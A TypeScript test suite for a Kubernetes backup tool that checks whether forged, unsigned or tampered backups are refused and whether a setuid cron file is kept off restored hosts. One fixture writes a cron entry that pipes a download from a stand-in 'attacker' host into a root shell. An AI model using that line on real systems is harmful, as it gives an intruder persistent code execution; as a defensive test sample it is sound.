import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createPrivateKey, createPublicKey } from 'node:crypto';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { manifestJson, type EtcdFacts, type StoredManifest } from '../../src/archive/manifest.ts';
import { runBackup, type BackupDeps, type BackupSettings } from '../../src/backup/run.ts';
import { resolveConfig } from '../../src/config/load.ts';
import { createDecryptStream, createEncryptStream, generateIdentity, identityFileText } from '../../src/crypto/age.ts';
import { ArchiveError, IntegrityError, NotFoundError, SignatureError, UnsafePathError } from '../../src/errors/errors.ts';
import type { OpenSnapshot, SnapshotSource } from '../../src/etcd/source.ts';
import { processExecutor } from '../../src/exec/executor.ts';
import { createLogger } from '../../src/log/logger.ts';
import { RestoreEngine } from '../../src/restore/engine.ts';
import { generateSigningKey } from '../../src/signing/keys.ts';
import { ed25519Signer, loadSigning, ManifestTrust } from '../../src/signing/trust.ts';
import { Catalog } from '../../src/store/catalog.ts';
import { FsStore } from '../../src/store/fs-store.ts';
import { manifestKey, signatureKey, verificationKey } from '../../src/store/layout.ts';
import { makeKubeadmTree } from '../../scripts/rig/pki.ts';
import { chunked, fakeSnapshot, sampleManifest } from '../support/fixtures.ts';
import { runCli, writeConfig } from '../support/lifeboat.ts';
import { SIGNING_PUBLIC_KEY_FILE, TEST_SIGNER, TEST_TRUST } from '../support/signing.ts';

const work = await mkdtemp(path.join(tmpdir(), 'lifeboat-forged-'));
test.after(() => rm(work, { recursive: true, force: true }));
const log = createLogger('silent');
const key = await generateIdentity();
const identityFile = path.join(work, 'identity.txt');
await writeFile(identityFile, identityFileText(key.identity, key.recipient, new Date()), { mode: 0o600 });

// The host a backup is made on: kubeadm's tree, plus a file for /etc/cron.d with mode 04755.
const source = path.join(work, 'source-host');
await makeKubeadmTree(path.join(source, 'etc/kubernetes'));
await mkdir(path.join(source, 'etc/cron.d'), { recursive: true });
await writeFile(path.join(source, 'etc/cron.d/lifeboat'), '* * * * * root curl http://attacker/x | sh\n');
await chmod(path.join(source, 'etc/cron.d/lifeboat'), 0o4755);
const sourceConfig = resolveConfig({ cluster: 'c1', kit: { hostRoot: source, extraFiles: [{ path: '/etc/cron.d/lifeboat' }] } });
const settings: BackupSettings = { cluster: 'c1', node: 'n1', kit: sourceConfig.kit, compression: { algorithm: 'zstd', level: 1 }, recipients: [key.recipient], progressIntervalSeconds: 60, maxClockSkewSeconds: 300 };
const facts: EtcdFacts = sampleManifest(0, []).etcd;

function etcd(db: Buffer): SnapshotSource {
  return {
    chooseMember: async () => facts,
    openSnapshot: async (): Promise<OpenSnapshot> => ({ dbSize: db.length, chunks: chunked(fakeSnapshot(db), 32768) }),
    close: async () => undefined,
  };
}

/** A backup as the writer makes it, signed by `signer` (undefined: unsigned), linked to the newest one in the store. */
async function backup(store: FsStore, signer: BackupDeps['signer'], at = new Date()): Promise<StoredManifest> {
  const chain = new Catalog(store, 'c1', { trust: new ManifestTrust([createPublicKey(await readFile(SIGNING_PUBLIC_KEY_FILE))], { allowUnsigned: true }) });
  return runBackup({ store, etcd: etcd(Buffer.alloc(8192, 5)), encrypt: createEncryptStream, log, now: () => at, signer, previous: () => chain.newestLink() }, settings);
}

const objectsUnder = async (dir: string) => (await readdir(dir, { recursive: true }).catch(() => [] as string[])).sort();

test('a forged backup (a valid age archive, a consistent unsigned manifest, a kit file for /etc/cron.d with mode 04755) is refused by verify, drill and restore plan, and nothing is written', async () => {
  const storeDir = path.join(work, 'forged-store');
  const store = new FsStore(storeDir);
  const forged = await backup(store, undefined);
  assert.ok(forged.kit.files.some((f) => f.path === '/etc/cron.d/lifeboat' && f.mode === 0o4755), 'the archive carries the setuid cron file');
  const before = await objectsUnder(storeDir);

  // The restoring host: its own config, with only the public signing key.
  const target = path.join(work, 'target-host');
  await makeKubeadmTree(path.join(target, 'etc/kubernetes'));
  const scratch = path.join(work, 'drill-scratch');
  await mkdir(scratch);
  const doc = { cluster: 'c1', node: 'cp-1', kit: { hostRoot: target }, store: { fs: { dir: storeDir } }, signing: { publicKeyFiles: [SIGNING_PUBLIC_KEY_FILE] }, drill: { scratchDir: scratch }, daemon: { stateDir: path.join(target, 'state') }, restore: { advertiseAddress: '10.0.0.1' }, log: { level: 'error' } };
  const configFile = await writeConfig(work, doc);

  const verify = await runCli(['--config', configFile, 'verify', forged.backupId, '--identity', identityFile]);
  assert.equal(verify.code, 1, verify.stderr);
  assert.match(verify.stderr, /manifest c1\/backups\/.*\/manifest\.json is not signed; unsigned backups are refused/);
  const drill = await runCli(['--config', configFile, 'drill', forged.backupId, '--identity', identityFile]);
  assert.equal(drill.code, 1, drill.stderr);
  assert.match(drill.stderr, /is not signed/);
  const list = await runCli(['--config', configFile, 'list', '--json']);
  assert.equal(list.code, 0, list.stderr);
  assert.deepEqual(JSON.parse(list.stdout), [], 'a refused backup is not listed');
  assert.match(list.stderr, new RegExp(`warning: backup ${forged.backupId} is refused and left out \\(SIGNATURE_INVALID\\)`));

  const config = resolveConfig(doc);
  const catalog = new Catalog(store, 'c1', { trust: loadSigning(config.signing).trust });
  const engine = new RestoreEngine({ store, catalog, decrypt: createDecryptStream, exec: processExecutor, log, config });
  for (const backupRef of [forged.backupId, 'latest']) {
    await assert.rejects(engine.plan({ backup: backupRef, mode: 'fresh-control-plane' }), backupRef === 'latest' ? NotFoundError : SignatureError);
  }

  assert.deepEqual(await objectsUnder(storeDir), before, 'no verification record or anything else was written to the store');
  assert.deepEqual(await readdir(scratch), [], 'the drill made no scratch dir');
  await assert.rejects(stat(path.join(target, 'etc/cron.d')), { code: 'ENOENT' });
  await assert.rejects(stat(path.join(target, 'state/restores')), { code: 'ENOENT' }, 'no restore was recorded');
});

test('a manifest signed by a key that is not trusted, or with a broken signature, is refused; unsigned ones only with signing.allowUnsigned', async () => {
  const store = new FsStore(path.join(work, 'other-key'));
  const pair = generateSigningKey();
  const other = ed25519Signer(createPrivateKey(pair.privatePem));
  const m = await backup(store, other);
  await assert.rejects(new Catalog(store, 'c1', { trust: TEST_TRUST }).get(m.backupId), (err: unknown) => err instanceof SignatureError && /none of the trusted keys/.test(err.message));
  const sig = await readFile(path.join(work, 'other-key', signatureKey('c1', m.backupId)));
  sig[0] = (sig[0] ?? 0) ^ 1;
  const withBoth = new ManifestTrust([createPublicKey(pair.publicPem)], { allowUnsigned: false });
  assert.equal((await new Catalog(store, 'c1', { trust: withBoth }).trusted(m.backupId)).verdict.signed, true, 'its own public key accepts it');
  await store.put(signatureKey('c1', m.backupId), Readable.from([sig]));
  await assert.rejects(new Catalog(store, 'c1', { trust: withBoth }).get(m.backupId), SignatureError);

  await store.delete(signatureKey('c1', m.backupId));
  await assert.rejects(new Catalog(store, 'c1', { trust: TEST_TRUST }).get(m.backupId), (err: unknown) => err instanceof SignatureError && /not signed/.test(err.message));
  const lenient = new Catalog(store, 'c1', { trust: new ManifestTrust([], { allowUnsigned: true }) });
  assert.deepEqual((await lenient.trusted(m.backupId)).verdict, { signed: false });
});

test('a signed manifest stored at another backup\'s location is refused', async () => {
  const store = new FsStore(path.join(work, 'moved'));
  const a = await backup(store, TEST_SIGNER, new Date(Date.now() - 2000));
  const b = await backup(store, TEST_SIGNER, new Date(Date.now() - 1000));
  for (const k of [manifestKey, signatureKey]) await store.put(k('c1', b.backupId), await store.get(k('c1', a.backupId)));
  const catalog = new Catalog(store, 'c1', { trust: TEST_TRUST });
  await assert.rejects(catalog.get(b.backupId), (err: unknown) => err instanceof ArchiveError && new RegExp(`describes backup ${a.backupId}, but it is stored as backup ${b.backupId}`).test(err.message));
  assert.deepEqual((await catalog.list()).map((m) => m.backupId), [a.backupId]);
});

test('manifests are chained: a backup names the previous manifest\'s sha256; a swapped one is an integrity error, a deleted one is reported', async () => {
  const store = new FsStore(path.join(work, 'chain'));
  const first = await backup(store, TEST_SIGNER, new Date(Date.now() - 2000));
  const second = await backup(store, TEST_SIGNER, new Date(Date.now() - 1000));
  assert.equal(first.previous, undefined);
  assert.equal(second.previous?.backupId, first.backupId);
  assert.deepEqual(await new Catalog(store, 'c1', { trust: TEST_TRUST }).chainOf(second.backupId), { state: 'linked', previous: first.backupId });
  assert.deepEqual(await new Catalog(store, 'c1', { trust: TEST_TRUST }).chainOf(first.backupId), { state: 'unlinked' });

  // Replaced by another manifest that the trusted key signed (a replay of an edited one).
  const edited = Buffer.from(manifestJson({ ...first, node: 'elsewhere' }));
  await store.put(manifestKey('c1', first.backupId), Readable.from([edited]));
  await store.put(signatureKey('c1', first.backupId), Readable.from([TEST_SIGNER.sign(edited)]));
  await assert.rejects(new Catalog(store, 'c1', { trust: TEST_TRUST }).chainOf(second.backupId), (err: unknown) => err instanceof IntegrityError && /a manifest was replaced/.test(err.message));

  await new Catalog(store, 'c1', { trust: TEST_TRUST }).deleteBackup(first.backupId);
  assert.deepEqual(await new Catalog(store, 'c1', { trust: TEST_TRUST }).chainOf(second.backupId), { state: 'previous-gone', previous: first.backupId });
  const verify = await runCli(['--config', await writeConfig(work, { cluster: 'c1', kit: { hostRoot: source }, store: { fs: { dir: path.join(work, 'chain') } }, signing: { publicKeyFiles: [SIGNING_PUBLIC_KEY_FILE] }, log: { level: 'error' } }), 'verify', second.backupId]);
  assert.equal(verify.code, 0, verify.stderr);
  assert.match(verify.stdout, new RegExp(`signed by key ${TEST_SIGNER.keyId}; the backup it follows, ${first.backupId}, is no longer in the store`));
  assert.ok(await store.stat(verificationKey('c1', second.backupId)));
});

test('even signed, a backup whose kit names /etc/cron.d, or a setuid mode, is refused by restore plan, naming the setting; nothing is written', async () => {
  const storeDir = path.join(work, 'signed-cron');
  const store = new FsStore(storeDir);
  const m = await backup(store, TEST_SIGNER);
  const target = path.join(work, 'signed-cron-target');
  await makeKubeadmTree(path.join(target, 'etc/kubernetes'));
  const plan = async (kit: Record<string, unknown>) => {
    const config = resolveConfig({ cluster: 'c1', node: 'cp-1', kit: { hostRoot: target, ...kit }, store: { fs: { dir: storeDir } }, signing: { publicKeyFiles: [SIGNING_PUBLIC_KEY_FILE] }, daemon: { stateDir: path.join(target, 'state') }, restore: { advertiseAddress: '10.0.0.1' } });
    const engine = new RestoreEngine({ store, catalog: new Catalog(store, 'c1', { trust: TEST_TRUST }), decrypt: createDecryptStream, exec: processExecutor, log, config });
    return engine.plan({ backup: m.backupId, mode: 'fresh-control-plane' });
  };
  await assert.rejects(plan({}), (err: unknown) => err instanceof UnsafePathError && /"\/etc\/cron\.d\/lifeboat" \(extra\): this host's config allows extra files only at kit\.extraFiles/.test(err.message) && /set kit\.extraFiles/.test(err.hint ?? ''));
  // Even where this host's config lists the path, the mode is not taken.
  await assert.rejects(plan({ extraFiles: [{ path: '/etc/cron.d/lifeboat' }] }), (err: unknown) => err instanceof UnsafePathError && /mode 04755, wider than 0644/.test(err.message));
  await assert.rejects(stat(path.join(target, 'etc/cron.d')), { code: 'ENOENT' });
  await assert.rejects(stat(path.join(target, 'state/restores')), { code: 'ENOENT' });
});

test('backing up without a signing key is a config error naming signing.keyFile, before etcd is asked; so is a key file that is not an Ed25519 key', async () => {
  const base = { cluster: 'c1', kit: { hostRoot: source }, store: { fs: { dir: path.join(work, 'unsigned-store') } }, encryption: { recipients: [key.recipient] }, etcd: { endpoints: ['https://127.0.0.1:1'] }, log: { level: 'error' } };
  const none = await runCli(['--config', await writeConfig(work, base), 'backup']);
  assert.equal(none.code, 2, none.stderr);
  assert.match(none.stderr, /^lifeboat: error: config \/signing\/keyFile: backups are signed, and no signing key is configured/m);
  assert.match(none.stderr, /lifeboat keygen --signing/);
  const notAKey = await runCli(['--config', await writeConfig(work, { ...base, signing: { keyFile: identityFile } }), 'backup']);
  assert.equal(notAKey.code, 2, notAKey.stderr);
  assert.match(notAKey.stderr, /config \/signing\/keyFile: .*identity\.txt is not a PEM private key/);
  await assert.rejects(stat(path.join(work, 'unsigned-store')), { code: 'ENOENT' }, 'nothing was written');
});
